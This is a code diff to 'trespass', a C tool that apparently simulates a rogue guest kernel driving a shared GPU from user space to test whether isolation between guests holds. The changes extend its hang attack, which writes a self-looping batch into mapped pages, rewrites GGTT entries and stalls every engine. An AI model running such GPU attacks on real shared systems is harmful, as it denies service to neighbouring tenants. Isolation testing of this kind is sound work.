@@ -1,15 +1,15 @@
 // SPDX-License-Identifier: GPL-2.0 OR MIT
 /*
- * usage: trespass ADDRESS PAGE SECONDS NAME...
+ * usage: trespass ADDRESS PAGES SECONDS NAME...
  *
  * A guest's kernel that has gone bad: it drives the GPU at PCI ADDRESS from
  * user space and does what a guest must not, as NAMEs say and in turn, until
  * the time is over. Its share is what PVINFO says; all else is its neighbours'.
  * No driver must be bound, but for "planes", which wants a pipe that is on.
  *
- * What the GPU writes ends in PAGE, which the kernel must have been told to keep
- * off (memmap=), so that the guest itself survives: nothing else is mapped when
- * the first attack begins.
+ * What the GPU writes ends in two PAGES, which the kernel must have been told to
+ * keep off (memmap=), so that the guest itself survives: nothing else is mapped
+ * when the first attack begins.
  *
  * Exit status: 0 all was done, 2 something could not be done.
  */
@@ -74,7 +74,7 @@ struct range {
 	uint32_t size;
 };
 
-/* @entries are those of the GGTT; @page is ours and lies at graphics address @at. */
+/* @entries are those of the GGTT; @page, and one for loops behind it, are ours and lie at graphics address @at. */
 struct gpu {
 	struct area registers;
 	struct area entries;
@@ -168,12 +168,14 @@ static void attack_rings(struct gpu *gpu)
 	}
 }
 
-/* A batch that starts itself for ever, on all engines at once. */
+/* A batch that starts itself for ever, on all engines at once, until each is reset. */
 static void attack_hang(struct gpu *gpu)
 {
-	const uint32_t loop[] = { MI_BATCH_BUFFER_START, gpu->at };
+	const uint32_t loop[] = { MI_BATCH_BUFFER_START, gpu->at + PAGE };
 	const struct timespec pause = { .tv_nsec = 100 * 1000 * 1000 };
 
+	for (unsigned int i = 0; i < 2; i++)
+		gpu->page[PAGE / 4 + i] = loop[i];
 	for (unsigned int i = 0; i < ENGINES; i++)
 		submit(gpu, i, loop, 2);
 	nanosleep(&pause, NULL);
@@ -348,18 +350,18 @@ static struct area map_bar(const char *address, unsigned int bar, unsigned int p
 	return (struct area) { at, (uint64_t)size };
 }
 
-static void map_page(struct gpu *gpu)
+static void map_pages(struct gpu *gpu)
 {
 	int fd = open("/dev/mem", O_RDWR | O_SYNC | O_CLOEXEC);
 	void *page;
 
 	if (fd < 0)
 		die("/dev/mem");
-	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)gpu->physical);
+	page = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)gpu->physical);
 	if (page == MAP_FAILED)
 		die("/dev/mem");
 	close(fd);
-	gpu->page = page;
+	gpu->page = memset(page, 0, 2 * PAGE);
 }
 
 static void open_gpu(struct gpu *gpu, const char *address)
@@ -386,9 +388,10 @@ static void take_over(struct gpu *gpu, const char *address)
 {
 	gpu->entries = map_bar(address, 0, 1);
 	gpu->aperture = map_bar(address, 2, 2);
-	map_page(gpu);
+	map_pages(gpu);
 	clear_entries(gpu);
-	gpu->entries.words[gpu->at / PAGE] = entry_of(gpu->physical);
+	for (unsigned int i = 0; i < 2; i++)
+		gpu->entries.words[gpu->at / PAGE + i] = entry_of(gpu->physical + i * PAGE);
 }
 
 static uint64_t now_ms(void)
@@ -401,8 +404,8 @@ static uint64_t now_ms(void)
 
 static int usage(void)
 {
-	fprintf(stderr, "usage: trespass ADDRESS PAGE SECONDS NAME...\n"
-		"PAGE is a physical address below 4 GiB, SECONDS are 1 to 3600\n");
+	fprintf(stderr, "usage: trespass ADDRESS PAGES SECONDS NAME...\n"
+		"PAGES is a physical address below 4 GiB, SECONDS are 1 to 3600\n");
 	return 2;
 }
 
